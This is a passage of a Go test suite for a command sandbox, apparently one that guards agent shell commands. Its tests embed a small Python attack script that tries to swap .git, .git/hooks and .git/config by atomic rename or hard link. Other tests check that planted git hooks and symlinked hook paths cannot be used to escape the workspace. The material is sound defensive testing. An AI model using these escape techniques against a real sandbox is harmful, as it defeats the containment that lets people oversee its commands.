	r := w.guard("exec", "--mode", "bypass", "--", "bash", "attack.sh").expect(t, 0)
	if strings.Contains(r.stdout, "WRITTEN") || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the hooks were written: %s", r)
	}
	if target, err := os.Readlink(hooks); err != nil || target != "../scripts/hooks" {
		t.Fatalf(".git/hooks -> %q (%v) after the run: %s", target, err, r)
	}
	if !strings.Contains(r.stderr, "put back the link") {
		t.Fatalf("no word of the link put back: %s", r)
	}
	w.git("commit", "-q", "--allow-empty", "-m", "x")
	if exists(filepath.Join(w.workspace, "PWNED")) {
		t.Fatal("git ran the command's hook")
	}
}

// TestWorkHooksPathThroughALink: guard makes a missing core.hooksPath
// directory before the sandbox, as the user: not through a symbolic link
// an earlier command left, out of the workspace.
func TestWorkHooksPathThroughALink(t *testing.T) {
	requirePrograms(t, "git")
	w := newWorld(t)
	outside := filepath.Join(w.home, "elsewhere")
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(w.workspace, "tools")); err != nil {
		t.Fatal(err)
	}
	w.git("config", "core.hooksPath", "tools/hooks")
	w.settings(`[permissions]
allow = ["shell(true)"]
`)
	w.guard("exec", "--", "true").expect(t, 0)
	if exists(filepath.Join(outside, "hooks")) {
		t.Fatal("guard made a directory outside the workspace through a link")
	}
}

// TestWorkGitDirectoryCannotBeExchanged: the other ways of putting a
// directory of the command's in .git's place are refused too: an atomic
// exchange (renameat2 RENAME_EXCHANGE) of .git, of .git/hooks or of
// .git/config with another entry, and a hard link to .git/config.
func TestWorkGitDirectoryCannotBeExchanged(t *testing.T) {
	requirePrograms(t, "git", "python3")
	w := newWorld(t)
	w.write("attack.py", `import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("evil", exist_ok=True)
open("evil.txt", "w").close()
for a, b in [(b".git", b"evil"), (b".git/hooks", b"evil"), (b".git/config", b"evil.txt")]:
    if libc.renameat2(-100, a, -100, b, 2) == 0:
        print("EXCHANGED", a)
try:
    os.link(".git/config", "config-link")
    print("LINKED")
except OSError:
    pass
print("done")
`)
	w.settings(`[permissions]
allow = ["shell(python3 attack.py)"]
`)
	r := w.guard("exec", "--mode", "bypass", "--", "python3", "attack.py").expect(t, 0)
	if strings.Contains(r.stdout, "EXCHANGED") || strings.Contains(r.stdout, "LINKED") || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the git directory was exchanged or linked: %s", r)
	}
	if fi, err := os.Lstat(filepath.Join(w.workspace, ".git", "config")); err != nil || !fi.Mode().IsRegular() {
		t.Fatalf(".git/config after the run: %v %v", fi, err)
	}
}
